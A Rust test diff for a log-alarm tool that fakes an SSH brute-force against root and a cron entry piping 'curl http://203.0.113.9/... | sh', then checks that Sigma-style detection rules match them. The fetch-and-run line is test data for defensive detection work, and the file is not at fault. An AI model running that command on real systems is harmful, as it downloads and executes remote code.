@@ -321,3 +321,58 @@ fn values_that_are_not_kept_are_counted() {
     let said = bench.run(&["alarms", "list", &evidence]);
     assert!(said.out.contains("values kept: src.ip 50 of 60"), "{}", said.out);
 }
+
+/// What sshd and cron write, and a password that was guessed.
+fn host() -> String {
+    let mut lines: Vec<String> = (0..6)
+        .map(|at| {
+            format!("sshd[9{at}]: Failed password for root from 203.0.113.9 port 4010{at} ssh2")
+        })
+        .collect();
+    lines.push("sshd[99]: Accepted password for root from 203.0.113.9 port 40109 ssh2".to_owned());
+    lines.push("CRON[98]: (root) CMD (curl http://203.0.113.9/\u{1b}[31mx | sh)".to_owned());
+    let line = |(at, text): (usize, &String)| format!("Mar  4 10:40:{at:02} web-1 {text}\n");
+    lines.iter().enumerate().map(line).collect()
+}
+
+#[test]
+fn rules_are_asked_of_lines_of_their_log_source_and_the_others_say_that_there_are_none() {
+    let bench = Bench::new();
+    let evidence = bench.write("auth.log", host().as_bytes());
+    let rule = |title: &str, source: &str, detection: &str| {
+        format!("title: {title}\nid: {title}\nlogsource: {source}\ndetection: {detection}\n---\n")
+    };
+    let rules = [
+        rule(
+            "piped",
+            "{product: linux, service: cron}",
+            "{k: {'|all': [CURL, '| sh']}, condition: k}",
+        ),
+        rule("nowhere", "{product: linux, service: sudo}", "{k: [curl], condition: k}"),
+        rule("web", "{category: webserver}", "{k: [curl], condition: k}"),
+        rule("pots", "{product: kettle}", "{k: [curl], condition: k}"),
+    ];
+    let rules = bench.write("own.yml", rules.concat().trim_end_matches("---\n").as_bytes());
+    let said = bench.run(&["alarms", "rules", &evidence, "--rules", &rules]);
+    for wanted in [
+        "piped: matched 1 of 1 evaluated\n",
+        "nowhere: could not fire: there are no events of linux sudo (syslog or journald) in this evidence\n",
+        "web: could not fire: there are no events of access_log or w3c or alb or clb or cloudfront or \
+         cloudfront_realtime or apigw_access in this evidence\n",
+        "pots: could not fire: logs of kettle are not asked here\n",
+        "A password was refused: matched 6 of 7 evaluated\n",
+        "A password was accepted after many from that address were refused: 1 burst among 2 events of its rules\n",
+    ] {
+        assert!(said.out.contains(wanted), "{wanted}{}", said.out);
+    }
+    let said = bench.run(&["alarms", "list", "--format", "jsonl", &evidence, "--rules", &rules]);
+    let found: Vec<Value> =
+        said.out.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
+    let guessed = found.iter().find(|it| it["severity"] == "high").unwrap();
+    assert_eq!(
+        (&guessed["count"], &guessed["entities"]["src.ip"]),
+        (&7.into(), &json!(["203.0.113.9"]))
+    );
+    let piped = found.iter().find(|it| it["rule"] == "piped").unwrap();
+    assert_eq!(piped["events"][0]["line"], 8);
+}
